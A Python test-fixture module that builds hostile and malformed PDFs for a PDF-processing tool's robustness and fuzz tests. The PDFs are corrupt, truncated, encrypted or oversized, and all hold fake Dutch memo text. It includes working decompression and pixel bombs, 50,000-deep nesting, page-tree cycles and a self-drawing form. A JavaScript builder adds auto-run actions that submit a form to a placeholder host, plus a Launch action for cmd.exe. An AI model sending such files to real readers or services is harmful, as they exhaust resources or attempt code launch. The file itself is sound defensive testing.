"""Builders of hostile and broken PDFs, made in milliseconds (fake content only).

Each returns the path it wrote. Used by test_hostile_input.py and as seeds by test_fuzz.py.
"""

from __future__ import annotations

import zlib
from pathlib import Path

import pymupdf
from fakedocs import SECRET, write_lines

PASSWORD = "geheim-2022"


def raw_pdf(objects: list[bytes], root: int = 1, trailer_extra: bytes = b"") -> bytes:
    """A PDF from object bodies (object n is ``objects[n - 1]``) with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for num, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % num + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % off for off in offsets)
    out += b"trailer\n<< /Size %d /Root %d 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root,
                                                                               trailer_extra, xref)
    return bytes(out)


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), extra) + data + b"\nendstream"


HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
TEXT = b"BT /F1 11 Tf 72 770 Td (Nota over de begroting van de gemeente) Tj ET"
PAGE_WITH_FONT_4_CONTENT_5 = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >>"
                              b" /Contents 5 0 R >>")


def good(indir: Path, name: str = "good.pdf") -> Path:
    doc = pymupdf.open()
    write_lines(doc.new_page(width=595, height=842),  # the file name in the text: no two are duplicates
                [f"Nota aan de wethouder ({name})", f"Van: {SECRET}, team Financien", "De begroting is vastgesteld."])
    path = indir / name
    doc.save(path)
    return path


def encrypted_user_password(indir: Path) -> Path:
    doc = pymupdf.open()
    write_lines(doc.new_page(), [f"Vertrouwelijk: {SECRET}"])
    path = indir / "encrypted-user-password.pdf"
    doc.save(path, encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw=PASSWORD, owner_pw="eigenaar")
    return path


def encrypted_owner_only(indir: Path) -> Path:
    """Opens without a password; printing and copying 'forbidden' by the permission flags."""
    doc = pymupdf.open()
    write_lines(doc.new_page(), [f"Alleen lezen: {SECRET}"])
    path = indir / "encrypted-owner-only.pdf"
    doc.save(path, encryption=pymupdf.PDF_ENCRYPT_AES_128, owner_pw="eigenaar", user_pw="",
             permissions=int(pymupdf.PDF_PERM_ACCESSIBILITY))
    return path


def corrupt_xref(indir: Path) -> Path:
    page = PAGE_WITH_FONT_4_CONTENT_5
    data = bytearray(raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
                              page, HELVETICA, _stream(TEXT)]))
    start = data.rindex(b"xref\n")
    table = data[start:].replace(b" 00000 n", b" 99999 n").replace(b"00000000", b"77777777")
    path = indir / "corrupt-xref.pdf"
    path.write_bytes(bytes(data[:start]) + table)
    return path


def truncated(indir: Path) -> Path:
    data = good(indir, "whole.pdf").read_bytes()
    (indir / "whole.pdf").unlink()
    path = indir / "truncated.pdf"
    path.write_bytes(data[: len(data) * 6 // 10])
    return path


def zero_pages(indir: Path) -> Path:
    path = indir / "zero-pages.pdf"
    path.write_bytes(raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]))
    return path


def many_pages(indir: Path, count: int = 10_000) -> Path:
    """``count`` pages sharing one content stream and font: 1.6 MB, written in milliseconds."""
    kids = b" ".join(b"%d 0 R" % (5 + i) for i in range(count))
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> " \
           b"/Contents 4 0 R >>"
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count %d /Kids [%s] >>" % (count, kids),
               HELVETICA, _stream(TEXT)] + [page] * count
    path = indir / f"pages-{count}.pdf"
    path.write_bytes(raw_pdf(objects))
    return path


def tiny_text_objects(indir: Path, count: int = 100_000) -> Path:
    """One page, ``count`` text objects of one 2 pt letter each."""
    ops = [b"BT /F1 2 Tf 1 0 0 1 %.1f %.1f Tm (%c) Tj ET" % (20 + (i % 280) * 2, 20 + (i // 280) * 2.2, 97 + i % 26)
           for i in range(count)]
    content = zlib.compress(b"\n".join(ops))
    page = PAGE_WITH_FONT_4_CONTENT_5
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
               page, HELVETICA, _stream(content, b"/Filter /FlateDecode ")]
    path = indir / f"text-objects-{count}.pdf"
    path.write_bytes(raw_pdf(objects))
    return path


def _zeros_deflated(megabytes: int) -> bytes:
    """zlib data inflating to ``megabytes`` MB of zero bytes, built from one repeated block (fast)."""
    chunk = bytes(1 << 20)
    comp = zlib.compressobj(9)
    first = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(chunk) + comp.flush(zlib.Z_FULL_FLUSH)  # same bytes for every further MB
    tail = comp.flush()[:-4]
    size = megabytes << 20
    return first + again * (megabytes - 1) + tail + (((size % 65521) << 16) | 1).to_bytes(4, "big")


def decompression_bomb(indir: Path, megabytes: int = 4096) -> Path:
    """A page whose 4 MB content stream inflates to 4 GB."""
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 5 0 R] "
            b"/Resources << /Font << /F1 6 0 R >> >> >>")
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", page,
               _stream(TEXT), _stream(_zeros_deflated(megabytes), b"/Filter /FlateDecode "), HELVETICA]
    path = indir / f"bomb-{megabytes}mb.pdf"
    path.write_bytes(raw_pdf(objects))
    return path


def pixel_bomb(indir: Path) -> Path:
    """A 40,000 x 40,000 pixel image (4.8 GB decoded) in 5 MB, drawn over the page, with text on it."""
    page = (b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> /XObject << /Im 6 0 R >> >> >>")
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Count 1 /Kids [3 0 R] >>", page,
               _stream(b"q 595 0 0 842 0 0 cm /Im Do Q " + TEXT), HELVETICA,
               _stream(_zeros_deflated(4578), b"/Type /XObject /Subtype /Image /Width 40000 /Height 40000 "
                                              b"/ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode ")]
    path = indir / "pixel-bomb.pdf"
    path.write_bytes(raw_pdf(objects))
    return path


def deeply_nested(indir: Path, depth: int = 50_000) -> Path:
    """An array nested 50,000 deep, a page tree 2,000 levels deep, a page tree cycle, a form that draws itself."""
    nest = b"[" * depth + b"]" * depth
    levels = 2000
    objects = [b"<< /Type /Catalog /Pages 2 0 R /Deep 3 0 R >>", b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>", nest]
    # objects 4 .. 4+levels-1: nested Pages nodes; the last holds the page
    for i in range(levels):
        num = 4 + i
        kid = num + 1
        objects.append(b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R 2 0 R] >>" % (num - 1 if i else 2, kid)
                       if i == levels - 1 else b"<< /Type /Pages /Count 1 /Parent %d 0 R /Kids [%d 0 R] >>"
                       % (num - 1 if i else 2, kid))
    page_num = 4 + levels
    form_num, font_num, content_num = page_num + 1, page_num + 2, page_num + 3
    objects.append(b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R "
                   b"/Resources << /Font << /F1 %d 0 R >> /XObject << /Me %d 0 R >> >> /Nested 3 0 R >>"
                   % (page_num - 1, content_num, font_num, form_num))
    objects.append(_stream(b"/Me Do", b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] "
                                      b"/Resources << /XObject << /Me %d 0 R >> >> " % form_num))
    objects.append(HELVETICA)
    objects.append(_stream(TEXT + b" /Me Do"))
    path = indir / "deeply-nested.pdf"
    path.write_bytes(raw_pdf(objects))
    return path


def javascript_laden(indir: Path) -> Path:
    doc = pymupdf.open()
    page = doc.new_page()
    write_lines(page, ["Formulier met scripts", f"Behandelaar: {SECRET}"])
    js = "(app.alert\\('x'\\); this.submitForm\\('http://example.invalid'\\);)"
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"<</S/JavaScript/JS{js}>>")
    doc.xref_set_key(doc.pdf_catalog(), "AA", f"<</WC<</S/JavaScript/JS{js}>>/WP<</S/Launch/F(cmd.exe)>>>>")
    doc.xref_set_key(page.xref, "AA", f"<</O<</S/JavaScript/JS{js}>>/C<</S/JavaScript/JS{js}>>>>")
    for i in range(50):
        link = doc.get_new_xref()
        doc.update_object(link, f"<</Type/Annot/Subtype/Link/Rect[{i} 0 {i + 1} 1]/A<</S/JavaScript/JS{js}>>>>")
    path = indir / "javascript-laden.pdf"
    doc.save(path)
    return path


def not_a_pdf(indir: Path) -> list[Path]:
    files = {
        "scan.pdf": b"\x89PNG\r\n\x1a\n" + bytes(200),
        "mail.pdf": b"From: someone@example.org\nSubject: nota\n\nzie bijlage\n",
        "archive.pdf": b"PK\x03\x04" + bytes(100),
        "empty.pdf": b"",
    }
    paths = []
    for name, data in files.items():
        (indir / name).write_bytes(data)
        paths.append(indir / name)
    return paths
